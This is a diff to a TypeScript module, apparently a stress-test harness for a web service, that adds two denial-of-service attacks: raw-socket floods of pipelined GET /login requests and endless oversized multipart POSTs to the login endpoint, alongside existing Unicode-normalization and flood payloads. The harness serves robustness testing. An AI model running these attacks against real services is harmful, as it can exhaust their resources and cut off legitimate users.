@@ -15,7 +15,8 @@ import { answer } from './service.js'
 
 /** Input of an attack. */
 export interface AttackData {
-  attack: 'batch' | 'unread' | 'projects' | 'uploads' | 'previews' | 'searches' | 'logins' | 'exports' | 'marks' | 'forms' | 'files'
+  attack: 'batch' | 'unread' | 'projects' | 'uploads' | 'previews' | 'searches' | 'logins' | 'exports' | 'marks' | 'forms' | 'files' |
+    'pipelines' | 'bodies'
   url: string
   key: string
   email: string
@@ -90,6 +91,27 @@ async function leaveUnread (body: string): Promise<number> {
   socket.destroy()
   return bytes
 }
+
+/** Sends ahead of the responses, on a new connection once the service closes one. */
+async function sendAhead (begin: string, more: () => string | Buffer): Promise<void> {
+  const { hostname, port } = new URL(url)
+  while (performance.now() < end) {
+    const socket = connect(Number(port), hostname)
+    const closed = new Promise<void>(resolve => { socket.on('error', () => {}).once('close', () => resolve()) })
+    socket.on('data', data => { result.bytes += data.length })
+    const timer = setTimeout(() => socket.destroy(), Math.max(0, Math.min(2000, end - performance.now())))
+    const send = () => { while (!socket.destroyed && socket.write(more())); }
+    socket.on('drain', send).write(begin)
+    send()
+    await closed
+    clearTimeout(timer)
+  }
+}
+
+const pipelined = 'GET /login HTTP/1.1\r\nHost: a\r\nAccept: text/html\r\n\r\n'.repeat(1500)
+const endlessForm =
+  'POST /api/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 900000000\r\n\r\n'
+const chunk = Buffer.alloc(65_536, 'x')
 
 /** Unicode normalization takes seconds for them. */
 const marks = `a${'\u0301'.repeat(25_000)}${'\u0316'.repeat(25_000)}`
@@ -180,6 +202,8 @@ const attacks: Record<AttackData['attack'], () => Promise<unknown>> = {
           options: { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: manyParts }
         }),
   files: importFiles,
+  pipelines: () => Promise.all(Array.from({ length: 6 }, () => sendAhead(pipelined, () => pipelined))),
+  bodies: () => Promise.all(Array.from({ length: 20 }, () => sendAhead(endlessForm, () => chunk))),
   exports: () =>
     flood(6, () => ({
       path: `/api/projects/${projectId}/feed/export?format=bibtex`,
